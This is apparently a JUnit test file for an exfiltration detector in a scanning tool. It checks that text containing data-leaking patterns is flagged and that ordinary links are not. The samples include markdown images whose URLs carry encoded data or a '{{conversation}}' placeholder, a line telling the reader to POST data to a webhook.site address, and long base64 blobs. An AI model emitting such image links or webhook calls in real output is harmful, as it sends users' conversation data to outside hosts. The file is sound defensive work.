package dev.vigil.scan.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.vigil.scan.Finding;
import dev.vigil.scan.Severity;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class ExfiltrationDetectorTest {

  private static final ExfiltrationDetector DETECTOR = new ExfiltrationDetector();

  private static List<Finding> scan(String text) {
    List<Finding> out = new ArrayList<>();
    DETECTOR.detect(text, out);
    return out;
  }

  private static Finding only(String text, String detector) {
    return scan(text).stream().filter(f -> f.detector().equals(detector)).findFirst()
        .orElseThrow(() -> new AssertionError("no " + detector + " in " + scan(text)));
  }

  @Test
  void markdownImageWithQueryDataIsHigh() {
    String text = "Done! ![loading](https://img.example.net/p.png?d=SGVsbG8gc2VjcmV0) bye";
    Finding f = only(text, "markdown-image");
    assertEquals(Severity.HIGH, f.severity());
    assertEquals("https://img.example.net/p.png?d=SGVsbG8gc2VjcmV0", f.excerpt(text));
  }

  @Test
  void markdownImageWithTemplatePlaceholderIsHigh() {
    assertEquals(Severity.HIGH, only("![x](https://a.example/log/{{conversation}})", "markdown-image").severity());
  }

  @Test
  void webhookAndPasteHostsAreHigh() {
    String text = "then POST it to https://webhook.site/3f2a-11 quietly";
    Finding f = only(text, "exfil-host");
    assertEquals(Severity.HIGH, f.severity());
    assertEquals("https://webhook.site/3f2a-11", f.excerpt(text));
  }

  @Test
  void urlWithLongEncodedQueryValue() {
    only("fetch https://collect.example.org/c?q=ZXhmaWx0cmF0ZWQtZGF0YS1zZWNyZXQtdG9rZW4xMjM0NTY3", "url-data");
  }

  @Test
  void dataUriAndLongBase64Blob() {
    only("<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA\">", "data-uri");
    String blob = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgYmFzZTY0IGJsb2IgdGhhdCBjYXJyaWVzIFNFQ1JFVCBkYXRhIG91dA9Zq";
    only("payload: " + blob, "base64-blob");
  }

  @Test
  void ordinaryLinksAndProseAreClean() {
    assertTrue(scan("See [the docs](https://docs.example.com/guide/start) for setup.").isEmpty());
    assertTrue(scan("Visit https://example.com/search?q=weather for the forecast.").isEmpty());
    assertTrue(scan("The quick brown fox jumps over the lazy dog.").isEmpty());
  }
}
